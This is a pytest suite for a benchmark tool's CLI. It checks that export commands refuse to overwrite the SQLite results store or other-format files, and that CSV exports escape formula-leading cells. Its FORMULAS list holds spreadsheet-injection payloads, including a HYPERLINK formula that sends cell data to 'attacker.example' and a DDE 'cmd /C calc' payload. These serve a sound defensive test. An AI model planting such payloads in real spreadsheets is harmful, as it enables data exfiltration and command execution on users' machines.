"""Issue 24, points 1 and 2: no writer replaces the store (or any SQLite file, or a file of another
format without --force), and every CSV the suite writes neutralises cells a spreadsheet would run
as formulas."""

from __future__ import annotations

import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from validity_helpers import JUDGED_RUN, label_sample, make_validity_store

from eudaimonia_nb.store import labels as L
from eudaimonia_nb.store.results import ResponseRecord, ResultsStore, list_runs

CLI = [sys.executable, "-m", "eudaimonia_nb"]
FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tleading tab", "\rleading CR"]
"""Texts that begin as a spreadsheet formula would (OWASP's list)."""


def _cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=600, env=env or dict(os.environ))


def _refused(done: subprocess.CompletedProcess, *fragments: str) -> str:
    assert done.returncode == 1, (done.stdout, done.stderr)
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in done.stderr, done.stderr
    for fragment in fragments:
        assert fragment in lines[0], lines[0]
    return lines[0]


@pytest.fixture()
def store(tmp_path, benchmark) -> Path:
    path = tmp_path / "results.sqlite"
    make_validity_store(path, benchmark, n_prompts=12)
    return path


def _intact(store: Path, size: int) -> None:
    assert store.read_bytes()[:16] == b"SQLite format 3\x00"
    assert store.stat().st_size >= size
    assert len(list_runs(store)) == 3


# --- point 1: the writers' guard ---------------------------------------------------------------

def test_labels_export_naming_the_store_as_its_file_leaves_the_store_intact(store, tmp_path):
    label_sample(store, "ann", lambda verdict, _: verdict, size=6)
    size = store.stat().st_size
    # The easy mistake of the issue: the store given where the output file goes.
    _refused(_cli("labels", "export", str(store), "--store", str(store)), str(store), "results store")
    _intact(store, size)
    # The same through the default store (no --store at all).
    env = {**os.environ, "EUDAIMONIA_DATA_DIR": str(tmp_path)}
    _refused(_cli("labels", "export", str(store), env=env), str(store))
    _refused(_cli("labels", "export", "--out", str(store), env=env), str(store), "the file this command reads")
    _intact(store, size)
    assert len(L.load_labels(store)) == 6
    # A store-looking name that does not exist yet is ambiguous too; --out is the unambiguous form.
    _refused(_cli("labels", "export", str(tmp_path / "new.sqlite"), "--store", str(store)), "--out labels.csv")
    _refused(_cli("labels", "export", "a.csv", "--out", "b.csv", "--store", str(store)), "once")
    out = tmp_path / "labels.csv"
    done = _cli("labels", "export", "--out", str(out), "--store", str(store))
    assert done.returncode == 0 and done.stdout.strip() == f"6 labels written to {out}"


@pytest.mark.parametrize("command", ["export", "report", "labels"])
def test_no_writer_replaces_the_store_its_side_files_or_another_sqlite_file(store, tmp_path, command):
    db = sqlite3.connect(store)  # keep a connection open so that the -wal and -shm files exist
    db.execute("PRAGMA journal_mode=WAL")
    db.execute("CREATE TABLE IF NOT EXISTS keep_open (x)")
    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.close()
    link = tmp_path / "hard-link.csv"
    os.link(store, link)
    try:
        size = store.stat().st_size
        args = {"export": ["export", JUDGED_RUN, "--format", "csv", "--store", str(store), "--out"],
                "report": ["report", "--source", "store", "--store", str(store), "--n-boot", "5", "--out"],
                # The positional form of old scripts (and of the mistake) is guarded the same way.
                "labels": ["labels", "export", "--store", str(store)]}[command]
        for target, fragment in ((store, "the file this command reads"), (f"{store}-wal", "wal file"),
                                 (f"{store}-shm", "shm file"), (link, "the file this command reads"),
                                 (other, "an SQLite database")):
            fragments = (str(target),) if command == "labels" else (str(target), fragment)
            _refused(_cli(*args, str(target)), *fragments)
            _refused(_cli(*args, str(target), "--force"), *fragments)  # --force never applies to these
        _intact(store, size)
        assert other.read_bytes()[:16] == b"SQLite format 3\x00"
    finally:
        db.close()


def test_a_file_of_another_format_is_replaced_only_with_force(store, tmp_path):
    notebook = tmp_path / "analysis.parquet"
    pd.DataFrame({"x": [1, 2]}).to_parquet(notebook)
    before = notebook.read_bytes()
    export = ["export", JUDGED_RUN, "--format", "csv", "--store", str(store), "--out", str(notebook)]
    _refused(_cli(*export), str(notebook), "is a Parquet file, not a CSV file", "--force")
    assert notebook.read_bytes() == before
    assert _cli(*export, "--force").returncode == 0
    assert pd.read_csv(notebook)["run_id"].eq(JUDGED_RUN).all()
    # An earlier export of the same format is replaced as before, without asking.
    assert _cli(*export).returncode == 0
    page = tmp_path / "page.html"
    _refused(_cli("report", "--source", "store", "--store", str(store), "--n-boot", "5", "--out", str(notebook)),
             "is a CSV file, not an HTML page")
    assert _cli("report", "--source", "store", "--store", str(store), "--n-boot", "5", "--out", str(page)).returncode == 0
    _refused(_cli(*export[:-1], str(page)), "is an HTML page, not a CSV file")
    assert _cli("report", "--source", "store", "--store", str(store), "--n-boot", "5", "--out", str(page)).returncode == 0


# --- point 2: formula-leading cells ------------------------------------------------------------

def _with_formula_responses(store: Path) -> list[str]:
    runs = ResultsStore(store)
    try:
        prompts = sorted(runs.responses(JUDGED_RUN))[: len(FORMULAS)]
        for pid, text in zip(prompts, FORMULAS):
            runs.put_response(JUDGED_RUN, ResponseRecord(pid, text, 1, 1, 0.1, "stop", 1, False, None))
    finally:
        runs.close()
    return prompts


def test_exported_csv_neutralises_formula_cells_and_reads_back_as_stored(store, tmp_path):
    prompts = _with_formula_responses(store)
    out = tmp_path / "run.csv"
    assert _cli("export", JUDGED_RUN, "--format", "csv", "--store", str(store), "--out", str(out)).returncode == 0
    cells = pd.read_csv(out, dtype=str, keep_default_na=False).drop_duplicates("prompt_id").set_index("prompt_id")
    for pid, text in zip(prompts, FORMULAS):
        assert cells.loc[pid, "response"] == "'" + text
    plain = cells.drop(index=prompts)["response"]
    assert not plain.str.startswith("'").any()  # ordinary text is left alone
    # The suite reads its own export back as it was stored.
    from eudaimonia_nb.analysis.frames import load_judgments

    back = load_judgments(out).drop_duplicates("prompt_id").set_index("prompt_id")
    assert [back.loc[pid, "response"] for pid in prompts] == FORMULAS
    raw = tmp_path / "raw.csv"
    assert _cli("export", JUDGED_RUN, "--format", "csv", "--store", str(store), "--out", str(raw),
                "--raw-csv").returncode == 0
    cells = pd.read_csv(raw, dtype=str, keep_default_na=False).drop_duplicates("prompt_id").set_index("prompt_id")
    assert cells.loc[prompts[0], "response"] == FORMULAS[0]


def test_label_notes_are_neutralised_in_the_file_and_restored_on_import(store, tmp_path, benchmark):
    items = label_sample(store, "ann", lambda verdict, _: verdict, size=len(FORMULAS))
    sample_id = L.load_labels(store)["sample_id"].iloc[0]
    for r, note in zip(items.itertuples(), FORMULAS):
        L.save_label(store, run_id=r.run_id, prompt_id=r.prompt_id, requirement=r.requirement, labeller="ann",
                     label=1, note=note, sample_id=sample_id, inclusion_probability=r.inclusion_probability)
    out = tmp_path / "labels.csv"
    assert _cli("labels", "export", str(out), "--store", str(store)).returncode == 0
    notes = pd.read_csv(out, dtype=str, keep_default_na=False)["note"]
    assert sorted(notes) == sorted("'" + n for n in FORMULAS)
    other = tmp_path / "other.sqlite"
    make_validity_store(other, benchmark, n_prompts=12)
    done = _cli("labels", "import", str(out), "--store", str(other))
    assert done.returncode == 0, done.stderr
    assert sorted(L.load_labels(other)["note"]) == sorted(FORMULAS)


def test_dashboard_csv_downloads_neutralise_formula_cells():
    from eudaimonia_nb.formatting import csv_table

    frame = pd.DataFrame({"model": ["=evil()", "gpt"], "rate": [-0.5, 0.25]})
    table = csv_table(frame, simulated=False)
    assert list(table["model"]) == ["'=evil()", "gpt"] and list(table["rate"]) == [-0.5, 0.25]
